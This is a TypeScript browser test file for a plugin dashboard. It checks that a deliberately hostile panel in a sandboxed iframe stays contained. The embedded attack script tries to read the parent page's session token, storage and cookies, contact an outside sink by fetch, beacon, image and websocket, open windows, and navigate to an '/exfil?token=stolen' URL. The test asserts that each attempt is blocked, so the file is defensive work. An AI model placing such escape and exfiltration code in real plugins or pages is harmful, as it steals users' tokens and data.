import { mkdtempSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { removeDir, startTempKernel, type TempKernel } from '../helpers/temp-kernel.js';
import { writePluginDir } from '../helpers/write-plugin-dir.js';
import { writePluginUi } from '../helpers/write-plugin-ui.js';
import { ensureChromium, launchChromium } from './chromium.js';
import { openPage } from './page-helpers.js';

const skip = ensureChromium();
if (skip) console.warn(`SKIP hostile panel tests: ${skip}`);

/** The shell side: frames the panel from its own origin, sandboxed, and records what it posts. */
const SHELL_JS = `
const reports = [];
globalThis.__reports = reports;
addEventListener('message', (e) => reports.push({ origin: e.origin, data: e.data }));
const frame = document.createElement('iframe');
frame.setAttribute('sandbox', 'allow-scripts');
frame.src = location.protocol + '//evil.localhost:' + location.port + '/ui/evil/panels/evil/index.html';
document.body.append(frame);
sessionStorage.setItem('omega.token', 'shell-secret-token');
`;

/** A third-party plugin's own page on the kernel's origin: tries the dashboard's storage and windows. */
const EVIL_PAGE_JS = `
const out = [];
try { out.push('storage=' + sessionStorage.getItem('omega.token')); } catch (e) { out.push('storage=blocked'); }
try { const w = open('/ui/dashboard/'); out.push('window=' + (w ? w.document.title : 'none')); } catch (e) { out.push('window=blocked'); }
document.title = 'origin=' + self.origin + ' ' + out.join(' ');
`;

/** A hostile panel: tries every way out it can think of, reports, then tries to leave with data in the URL. */
const EVIL_JS = (sink: string) => `
(async () => {
  const kernel = location.protocol + '//127.0.0.1:' + location.port;
  const out = {};
  const attempt = async (name, fn) => {
    try { out[name] = 'allowed: ' + String(await fn()); } catch (e) { out[name] = 'blocked: ' + (e && e.name); }
  };
  await attempt('parentDom', () => parent.document.title);
  await attempt('parentToken', () => parent.sessionStorage.getItem('omega.token'));
  await attempt('cookie', () => { document.cookie = 'x=1'; return document.cookie; });
  await attempt('localStorage', () => localStorage.length);
  await attempt('sessionStorage', () => sessionStorage.length);
  await attempt('indexedDB', () => new Promise((res, rej) => { const r = indexedDB.open('x'); r.onsuccess = () => res('open'); r.onerror = () => rej(r.error); }));
  await attempt('fetchApi', () => fetch(kernel + '/api/v1/health').then((r) => r.status));
  await attempt('fetchSink', () => fetch('${sink}/fetch').then((r) => r.status));
  await attempt('beacon', () => { if (!navigator.sendBeacon('${sink}/beacon', 'x')) throw new TypeError('refused'); return 'sent'; });
  await attempt('websocket', () => new Promise((res, rej) => { const ws = new WebSocket(kernel.replace('http', 'ws') + '/api/v1/events'); ws.onopen = () => res('open'); ws.onerror = () => rej(new TypeError('ws error')); }));
  await attempt('worker', () => { new Worker('./evil.js'); return 'started'; });
  await attempt('openWindow', () => { const w = open('${sink}/popup'); if (!w) throw new TypeError('popup refused'); return 'opened'; });
  await attempt('topNavigation', () => { top.location.href = '${sink}/top'; return 'set'; });
  await attempt('image', () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res('loaded'); i.onerror = () => rej(new TypeError('img')); i.src = '${sink}/img.png'; }));
  parent.postMessage({ kind: 'report', out, origin: String(self.origin) }, '*');
  setTimeout(() => { location.href = '${sink}/exfil?token=stolen'; }, 200);
})();
`;

describe.skipIf(skip !== null)('a hostile panel in Chromium is contained', () => {
  let k: TempKernel;
  let browser: Browser;
  let sink: Server;
  let sinkUrl: string;
  const sinkHits: string[] = [];
  let pluginsDir: string;

  beforeAll(async () => {
    // Everything a panel might reach lands here (loopback only): it must receive nothing.
    sink = createServer((req, res) => {
      sinkHits.push(req.url ?? '');
      res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    const addr = sink.address();
    sinkUrl = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
    pluginsDir = mkdtempSync(join(tmpdir(), 'omega-hostile-panel-'));
    // The shell: a stand-in dashboard plugin that hosts the third-party panel.
    writePluginDir(pluginsDir, 'dashboard', 'export const plugin = {};\n', {});
    await writePluginUi(join(pluginsDir, 'dashboard'), 'ui', {
      'index.html': '<!doctype html><title>shell</title><body><script src="./shell.js"></script></body>',
      'shell.js': SHELL_JS,
    });
    writePluginDir(pluginsDir, 'evil', 'export const plugin = {};\n', {});
    await writePluginUi(
      join(pluginsDir, 'evil'),
      'ui',
      {
        'index.html': '<!doctype html><title>evil page</title><script src="./page.js"></script>',
        'page.js': EVIL_PAGE_JS,
        'panels/evil/index.html': '<!doctype html><title>evil</title><script src="./evil.js"></script>',
        'panels/evil/evil.js': EVIL_JS(sinkUrl),
      },
      { panels: [{ id: 'evil', title: 'Evil', slot: 'dashboard', entry: 'panels/evil/index.html' }] },
    );
    [k, browser] = await Promise.all([
      startTempKernel({ plugins: { dirs: [pluginsDir], warmHosts: 0 } }),
      launchChromium(),
    ]);
  });

  afterAll(async () => {
    await browser?.close();
    await k?.stop();
    if (k) removeDir(k.dataDir);
    removeDir(pluginsDir);
    await new Promise<void>((resolve) => sink?.close(() => resolve()));
  });

  it('reads nothing of the shell, connects nowhere, opens and navigates nothing', async () => {
    const tp = await openPage(browser);
    await tp.page.goto(`${k.url}/ui/dashboard/`);
    await tp.page.waitForFunction(
      () => ((globalThis as unknown as { __reports?: unknown[] }).__reports?.length ?? 0) > 0,
      undefined,
      { timeout: 20_000 },
    );
    // Give the panel's last attempt (navigating its own frame to the sink) time to fail.
    await tp.page.waitForTimeout(1500);
    const reports = (await tp.page.evaluate(
      () => (globalThis as unknown as { __reports: unknown[] }).__reports,
    )) as Array<{ origin: string; data: { kind: string; out: Record<string, string>; origin: string } }>;
    const report = reports.find((r) => r.data?.kind === 'report');
    expect(report?.origin).toBe('null'); // an opaque origin: the sandbox holds
    expect(report?.data.origin).toBe('null');
    const out = report?.data.out ?? {};
    const allowed = Object.entries(out).filter(([, v]) => v.startsWith('allowed'));
    // The shell's page and tokens, storage, cookies, the API, any other origin, workers, windows,
    // the top window, images from elsewhere: all refused. sendBeacon only says it queued the
    // beacon; CSP (connect-src 'none') stops the request itself: the sink below hears nothing.
    expect(allowed).toEqual([['beacon', 'allowed: sent']]);
    expect(Object.keys(out).sort()).toEqual(
      [
        'beacon',
        'cookie',
        'fetchApi',
        'fetchSink',
        'image',
        'indexedDB',
        'localStorage',
        'openWindow',
        'parentDom',
        'parentToken',
        'sessionStorage',
        'topNavigation',
        'websocket',
        'worker',
      ].sort(),
    );
    expect(sinkHits).toEqual([]);
    expect(tp.page.url()).toBe(`${k.url}/ui/dashboard/`);
    expect(tp.pageErrors).toEqual([]);
    await tp.context.close();
  });

  it("a third-party plugin's own page runs with an opaque origin: no dashboard storage, no dashboard window", async () => {
    const tp = await openPage(browser);
    await tp.page.goto(`${k.url}/ui/dashboard/`); // the shell stores its token in this tab
    await tp.page.goto(`${k.url}/ui/evil/`);
    await expect.poll(() => tp.page.title()).toMatch(/^origin=/);
    expect(await tp.page.title()).toMatch(/^origin=null storage=blocked window=(blocked|none)$/);
    await tp.context.close();
  });
});
